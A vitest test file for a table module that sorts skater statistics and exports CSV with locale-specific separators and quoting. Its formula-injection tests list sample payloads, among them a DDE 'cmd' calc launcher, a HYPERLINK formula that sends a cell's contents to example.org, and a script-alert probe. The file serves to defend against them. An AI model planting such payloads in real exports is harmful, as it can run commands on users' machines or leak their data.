import { describe, expect, test } from 'vitest';
import { type Column, columnsOf, csvOf, nextSort, sortRows } from './columns.ts';

interface Skater {
  name: string;
  goals: number;
  percentage: number | null;
}
const rows: Skater[] = [
  { name: 'Berg', goals: 3, percentage: 12.5 },
  { name: 'Åkesson', goals: 10, percentage: null },
  { name: 'Ceder, Jr. "Ace"', goals: 3, percentage: 0 },
];
const columns: Column<Skater>[] = [
  { id: 'name', header: 'Name', value: (row) => row.name, isName: true },
  { id: 'goals', header: 'G', title: 'Goals', value: (row) => row.goals },
  { id: 'percentage', header: '%', title: 'Shooting', value: (row) => row.percentage, sets: ['shooting'] },
  { id: 'actions', header: '', value: () => null, isUnsortable: true },
];
const namesBy = (by: string, order: 'asc' | 'desc') =>
  sortRows(rows, columns, { by, order }, 'sv').map(({ name }) => name);

describe('sorting a table', () => {
  test('starts with the highest numbers, or the first letter; a second click reverses it', () => {
    const [name, goals] = columns;
    expect(nextSort(goals!, undefined)).toEqual({ by: 'goals', order: 'desc' });
    expect(nextSort(goals!, { by: 'goals', order: 'desc' })).toEqual({ by: 'goals', order: 'asc' });
    expect(nextSort(name!, { by: 'goals', order: 'desc' })).toEqual({ by: 'name', order: 'asc' });
  });

  test('keeps the order of equal rows', () => {
    expect(namesBy('goals', 'desc')).toEqual(['Åkesson', 'Berg', 'Ceder, Jr. "Ace"']);
    expect(namesBy('goals', 'asc')).toEqual(['Berg', 'Ceder, Jr. "Ace"', 'Åkesson']);
  });

  test('puts rows without a value last in both directions', () => {
    expect(namesBy('percentage', 'desc').at(-1)).toBe('Åkesson');
    expect(namesBy('percentage', 'asc').at(-1)).toBe('Åkesson');
  });

  test('follows the language’s alphabet', () => {
    expect(namesBy('name', 'asc').at(-1)).toBe('Åkesson');
  });

  test('by an unknown column leaves the rows unchanged', () => {
    expect(namesBy('nonsense', 'asc')).toEqual(rows.map(({ name }) => name));
  });
});

test('a column set shows its columns and those of every set', () => {
  expect(columnsOf(columns, 'shooting').map(({ id }) => id)).toContain('percentage');
  expect(columnsOf(columns, 'other').map(({ id }) => id)).toEqual(['name', 'goals', 'actions']);
});

describe('the CSV export', () => {
  test('has full column names, quotes where needed, and no button columns', () => {
    expect(csvOf(rows, columns, 'en').split('\r\n')).toEqual([
      'Name,Goals,Shooting',
      'Berg,3,12.5',
      'Åkesson,10,',
      '"Ceder, Jr. ""Ace""",3,0',
    ]);
  });

  test('has semicolons and decimal commas where the language writes those', () => {
    expect(csvOf(rows, columns, 'de').split('\r\n')).toEqual([
      'Name;Goals;Shooting',
      'Berg;3;12,5',
      'Åkesson;10;',
      '"Ceder, Jr. ""Ace""";3;0',
    ]);
    expect(csvOf([{ name: 'A;B', goals: 1, percentage: null }], columns, 'de')).toContain('"A;B";1;');
  });

  test('disarms everything a spreadsheet takes as a formula, and changes nothing else', () => {
    const formulas = [
      '=1+1',
      "=cmd|'/C calc'!A0",
      '+1-2',
      '-1+2',
      '@SUM(A1)',
      '\t=1+1',
      '\r=1+1',
      '\n=1+1',
      '＝1+1',
      '＋1',
      '－1',
      '＠SUM(A1)',
      '=HYPERLINK("https://example.org?"&A1,"x")',
    ];
    for (const name of formulas) {
      const [, cell] = csvOf([{ name, goals: 0, percentage: null }], columns.slice(0, 1), 'en').split(/\r\n(.*)/s);
      expect(cell?.replace(/^"/, '').startsWith("'"), name).toBe(true);
    }
    for (const name of ['Åke', 'O’Neil', '1-2', 'a=b', '<script>alert(1)</script>'])
      expect(csvOf([{ name, goals: 0, percentage: null }], columns.slice(0, 1), 'en')).toBe(`Name\r\n${name}`);
  });

  test('does not let a name run as a formula', () => {
    expect(csvOf([{ name: '=HYPERLINK("x")', goals: -1, percentage: null }], columns, 'en')).toContain(
      `"'=HYPERLINK(""x"")",-1`,
    );
  });
});
